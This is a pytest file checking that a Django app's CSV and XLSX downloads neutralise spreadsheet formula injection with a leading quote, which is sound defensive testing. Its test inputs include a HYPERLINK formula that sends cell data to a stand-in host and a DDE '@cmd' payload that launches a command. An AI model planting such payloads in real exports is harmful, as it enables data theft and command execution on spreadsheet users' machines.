"""Spreadsheet formula injection: text that Excel would run as a formula is written as
text in every CSV and XLSX download (a leading quote, as OWASP advises); numbers stay
numbers."""

import pytest
from django.urls import reverse

from agreements.exports import export_response, neutralised
from agreements.models import CoordinationRequest, FollowUpTask

from .conftest import client_as
from .test_exports import csv_rows, xlsx_sheet

HYPERLINK = '=HYPERLINK("http://example.com/curi?d="&A1,"Klik")'


@pytest.mark.parametrize(
    "text, written",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+62 370 123", "'+62 370 123"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\x00=1+1", "'=1+1"),
        ("Uji coba = hasil", "Uji coba = hasil"),
        ("浙江省", "浙江省"),
        ("", ""),
    ],
)
def test_it_neutralises_text_that_starts_like_a_formula(text, written):
    assert neutralised(text) == written


def test_it_writes_a_formula_title_as_text_in_the_xlsx_download(biro, task):
    FollowUpTask.objects.filter(pk=task.pk).update(title=HYPERLINK)

    response = client_as(biro).get(reverse("agreements:task_list"), {"export": "xlsx"})

    assert response.status_code == 200
    cell = xlsx_sheet(response)["B2"]
    assert (cell.value, cell.data_type) == ("'" + HYPERLINK, "s")


def test_it_writes_a_formula_title_with_a_leading_quote_in_the_csv_download(biro, task):
    FollowUpTask.objects.filter(pk=task.pk).update(title=HYPERLINK)

    response = client_as(biro).get(reverse("agreements:task_list"), {"export": "csv"})

    assert response.status_code == 200
    assert csv_rows(response)[1][1] == "'" + HYPERLINK


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_it_neutralises_the_letters_in_the_requests_download(biro, request_for_unit, kind):
    CoordinationRequest.objects.filter(pk=request_for_unit.pk).update(
        letter_number="-070/1", subject="@cmd|' /C calc'!A0"
    )

    response = client_as(biro).get(reverse("agreements:letter_list"), {"export": kind})

    assert response.status_code == 200
    if kind == "csv":
        cells = csv_rows(response)[1]
    else:
        cells = [c.value for c in next(xlsx_sheet(response).iter_rows(min_row=2, max_row=2))]
    assert "'-070/1" in cells
    assert "'@cmd|' /C calc'!A0" in cells
    assert "-070/1" not in cells


def test_it_writes_a_stored_control_character_out_of_the_xlsx_instead_of_failing(biro, task):
    FollowUpTask.objects.filter(pk=task.pk).update(title="Uji\x01 coba\x1b")

    response = client_as(biro).get(reverse("agreements:task_list"), {"export": "xlsx"})

    assert response.status_code == 200
    assert xlsx_sheet(response)["B2"].value == "Uji coba"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_it_keeps_a_negative_number_a_number(db, kind):
    response = export_response(
        kind=kind,
        filename="uji",
        columns=[("Selisih (Rp)", lambda row: row), ("Catatan", lambda row: "-")],
        rows=[-1_500_000],
    )

    if kind == "csv":
        assert csv_rows(response)[1] == ["-1500000", "'-"]
    else:
        amount = xlsx_sheet(response)["A2"]
        assert (amount.value, amount.data_type) == (-1_500_000, "n")
